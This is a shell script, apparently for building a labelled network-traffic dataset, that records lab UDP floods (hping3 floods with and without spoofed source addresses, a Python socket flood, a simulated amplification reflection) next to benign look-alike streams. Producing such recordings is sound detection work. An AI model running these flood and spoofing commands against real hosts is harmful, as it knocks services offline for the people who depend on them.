#!/bin/sh
# Recordings of UDP floods and of what looks like them. Sourced by the recorder, which gives the commands
# attacker, victim and bystander, and their addresses.

# udp_flood-one_source: attack udp_flood hping3 from one address, each datagram with a port of its own
record_udp_flood_one_source() {
    attacker hping3 -q -I lab0 --udp -p 9 -i u2000 -c 1800 "$VICTIM" || true
}

# udp_flood-spoofed: attack udp_flood hping3 from random addresses
record_udp_flood_spoofed() {
    attacker hping3 -q -I lab0 --udp -p 53 --rand-source -i u2000 -c 1800 "$VICTIM" || true
}

# udp_flood-same: attack udp_flood one socket sends the same datagram again and again
record_udp_flood_same() {
    attacker python3 -c '
import socket, sys, time
flow = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(1800):
    flow.sendto(b"A" * 20, (sys.argv[1], 7777))
    time.sleep(0.0015)
' "$VICTIM"
}

# udp_flood-amplification: attack udp_flood answers of time servers that the victim never asked
record_udp_flood_amplification() {
    for n in $(seq 101 130); do bystander ip address add "10.77.0.$n/24" dev lab0; done
    bystander python3 -c '
import socket, sys, time
flows = []
for n in range(101, 131):
    flow = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flow.bind(("10.77.0.%d" % n, 123))
    flows.append(flow)
for n in range(180):
    flows[n % 30].sendto(b"\xd7\x00\x03\x2a" + bytes(436), (sys.argv[1], 80))
    time.sleep(0.005)
' "$VICTIM"
    for n in $(seq 101 130); do bystander ip address del "10.77.0.$n/24" dev lab0; done
}

# udp_flood-stream: benign udp_flood sound one way, 400 datagrams a second that nobody answers
record_udp_flood_stream() {
    victim timeout 6 python3 -c '
import socket
flow = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
flow.bind(("", 5004))
while True:
    flow.recv(2048)
' &
    attacker python3 -c '
import os, socket, struct, sys, time
flow = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(1300):
    flow.sendto(struct.pack("!BBHII", 0x80, 0, n, n * 160, 7) + os.urandom(24), (sys.argv[1], 5004))
    time.sleep(0.0025)
' "$VICTIM"
    wait
}

# udp_flood-answered: benign udp_flood 400 questions a second, each answered
record_udp_flood_answered() {
    victim timeout 6 python3 -c '
import socket
flow = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
flow.bind(("", 5353 + 1000))
while True:
    data, client = flow.recvfrom(2048)
    flow.sendto(data, client)
' &
    attacker python3 -c '
import socket, sys, time
time.sleep(1)
for n in range(1000):
    flow = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flow.settimeout(1)
    flow.sendto(b"%d" % n, (sys.argv[1], 6353))
    flow.recv(2048)
    flow.close()
    time.sleep(0.002)
' "$VICTIM"
    wait
}
